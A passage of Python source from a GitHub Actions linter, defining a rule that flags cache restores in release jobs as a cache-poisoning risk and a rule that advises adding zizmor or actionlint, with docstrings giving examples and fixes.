    if action == "actions/setup-go" and (major or 4) >= 4:
        return "restores a cache (by default)" if _switched_on(inputs, "cache", "default") else None
    return None


JobSteps = dict[tuple[str, str], list[Step]]


def _how_it_publishes(steps: list[Step], publishing: set[tuple[str, str]]) -> str | None:
    """How a job publishes (to PyPI, or through a publishing action), or None."""
    step = steps[0]
    if (step.doc.path, step.job) in publishing:
        return "publishes to PyPI"
    for each in steps:
        action, _ = action_of(each.uses)
        if action in PUBLISHER_ACTIONS and (
            action != "docker/build-push-action" or _truthy(each.with_.get("push"))
        ):
            return f"publishes through {action}"
    return None


def _artifacts_stay(steps: list[Step], by_job: JobSteps, publishing: set[tuple[str, str]]) -> bool:
    """True when what the job uploads is downloaded only by jobs of its own run that publish
    nothing (an install smoke test), and no workflow reads another run's artifacts."""
    names = {
        str(each.with_.get("name", "artifact"))
        for each in steps
        if action_of(each.uses)[0] == "actions/upload-artifact"
    }
    readers = [
        (key, each)
        for key, others in by_job.items()
        for each in others
        if action_of(each.uses)[0] in ("actions/download-artifact", *CROSS_RUN_DOWNLOADS)
    ]
    if any(
        action_of(each.uses)[0] in CROSS_RUN_DOWNLOADS or "run-id" in each.with_
        for _, each in readers
    ):
        return False
    path = steps[0].doc.path
    takers = {
        key
        for key, each in readers
        if key[0] == path
        and (
            str(each.with_.get("name", "")) in names
            or "name" not in each.with_  # every artifact of the run, or a pattern of them
        )
    }
    return bool(takers) and not any(
        _how_it_publishes(by_job[key], publishing)
        or any(RELEASE_UPLOAD.search(each.run) for each in by_job[key])
        for key in takers
    )


# actions that download the artifacts of another workflow's run
CROSS_RUN_DOWNLOADS = ("dawidd6/action-download-artifact",)


def _release_job(
    p: Project, steps: list[Step], publishing: set[tuple[str, str]], by_job: JobSteps
) -> str | None:
    """Why a job makes or publishes a release, or None: it uploads to a package index, runs a
    publishing action, or builds distributions in a workflow triggered by tags or releases."""
    step = steps[0]
    published = _how_it_publishes(steps, publishing)
    if published is not None:
        return published
    triggers = release_triggers(step.doc)
    builds = any(
        action_of(each.uses)[0] in BUILD_ACTIONS or BUILD_COMMAND.search(each.run) for each in steps
    )
    # what is built leaves the job: as an artifact for a later job to publish, or a release asset
    released = any(RELEASE_UPLOAD.search(each.run) for each in steps)
    uploads = any(action_of(each.uses)[0] == "actions/upload-artifact" for each in steps)
    hands_on = released or (uploads and not _artifacts_stay(steps, by_job, publishing))
    if triggers and builds and hands_on:
        return f"builds what it hands on to the release, on {triggers[0]}"
    return None


@rule(
    "GHA008",
    "cache-poisoning",
    severity="W",
    source="Lesson: a cache entry written by any workflow of the default branch is restored by the release job, so code run there reaches the release; https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/",
    peers=("zizmor:cache-poisoning",),
)
def cache_poisoning(p: Project) -> Iterator[Violation]:
    """A job that builds or publishes a release restores a cache.

    ## What it does
    Finds the release jobs: those that upload to PyPI (see GHA009), run a publishing action
    (`pypa/gh-action-pypi-publish`, `softprops/action-gh-release`, `PyO3/maturin-action`,
    `docker/build-push-action` with `push: true`, ...), or build distributions (`python -m
    build`, `uv build`, cibuildwheel, `gh release upload`, ...) in a workflow triggered by a push
    of tags, a push to a release branch, or `release`. In them, reports the steps that restore
    a cache: `actions/cache` (unless `lookup-only: true`), `actions/setup-python` with `cache:`,
    `astral-sh/setup-uv` with `enable-cache: true` (or v5 to v9, which cache by default on
    GitHub's runners), `actions/setup-node` with `cache:` (or v5 with an npm `packageManager`),
    and the other caching actions zizmor knows (setup-go, rust-cache, sccache, maturin's
    `sccache`, setup-ruby's `bundler-cache`, pixi, micromamba). A cache input set by an
    expression (`enable-cache: ${{ !startsWith(github.ref, 'refs/tags/') }}`) is taken as the
    author's own switch and left alone, and so are the test and docs jobs of a tag workflow
    that neither build nor publish: what they restore does not reach the release. A build
    whose artifact only jobs of its own run download, none of them publishing (an install
    smoke test), hands nothing on, unless a workflow reads another run's artifacts.

    ## Why it matters
    GitHub's cache is shared by every workflow run on the default branch: code that runs in
    any of them (an injected script in an issue-triage workflow, a compromised test
    dependency) can write an entry under the key the release job restores, and so put its own
    files into the wheels or the build tools of the release, signed and published as yours.

    ## Example
    ```yaml
    on:
      push:
        tags: ["v*"]
    jobs:
      release:
        steps:
          - uses: astral-sh/setup-uv@v6   # caches by default
          - run: uv build
          - uses: pypa/gh-action-pypi-publish@release/v1
    ```

    ## Use instead
    ```yaml
          - uses: astral-sh/setup-uv@v6
            with:
              enable-cache: false
    ```

    ## Fix
    Turn the cache off in release jobs (`enable-cache: false`, drop `cache:`, remove
    `actions/cache`): a release is rare enough to pay for a cold install.
    """
    publishing = {(each.step.doc.path, each.step.job) for each in publishes(p)}
    by_job: JobSteps = {}
    for step in p.workflows.steps:
        by_job.setdefault((step.doc.path, step.job), []).append(step)
    for steps in by_job.values():
        why = _release_job(p, steps, publishing, by_job)
        if why is None:
            continue
        for step in steps:
            how = _restores_cache(p, step)
            if how is not None:
                action, _ = action_of(step.uses)
                yield at_line(
                    step.doc.path,
                    f"{action} {how} in job {step.job}, which {why}: a poisoned cache entry "
                    "would reach the release; turn the cache off here",
                    _uses_line(step),
                )


LINTER_WORDS = re.compile(r"\bzizmor\b|\bactionlint\b")


@rule(
    "GHA011",
    "no-workflow-linter",
    severity="I",
    source="zizmor: https://docs.zizmor.sh/; actionlint: https://github.com/rhysd/actionlint",
)
def no_workflow_linter(p: Project) -> Iterator[Violation]:
    """The repository has GitHub workflows and nothing lints them.

    ## What it does
    When `.github/workflows/` holds a workflow, looks for zizmor or actionlint: a pre-commit
    hook (`zizmorcore/zizmor-pre-commit`, `woodruffw/zizmor-pre-commit`, `rhysd/actionlint`),
    a workflow step (`zizmorcore/zizmor-action`, an actionlint action, a `zizmor` or
    `actionlint` command), or a command in tox, nox, a Makefile or another task runner.
    Reports when neither appears.

    It is advice (info): prodready's GHA rules cover the worst of what zizmor finds, offline,
    but not all of it (it also reads expressions, known-vulnerable actions and impostor
    commits online), and actionlint checks what GitHub would reject (unknown keys, bad
    expressions, shell mistakes) before a push.

    ## Why it matters
    Workflows run with the repository's token and secrets; a template injection or a mistyped
    condition is found by these linters in seconds, and by an attacker or a failed release
    otherwise.

    ## Example
    ```yaml
    # .pre-commit-config.yaml without a workflow linter
    ```

    ## Use instead
    ```yaml
    - repo: https://github.com/zizmorcore/zizmor-pre-commit
      rev: v1.16.0
      hooks:
        - id: zizmor
    ```

    ## Fix
    Add zizmor's pre-commit hook (or `zizmorcore/zizmor-action` in CI), and actionlint if you
    like.
    """
    if not p.workflows.docs:
        return
    if any(LINTER_WORDS.search(hook_id) for hook_id in p.precommit.hook_ids):
        return
    if LINTER_WORDS.search(p.automation.text) or LINTER_WORDS.search(p.precommit.entries):
        return
    yield Violation("no workflow linter: run zizmor (or actionlint) in pre-commit or CI")
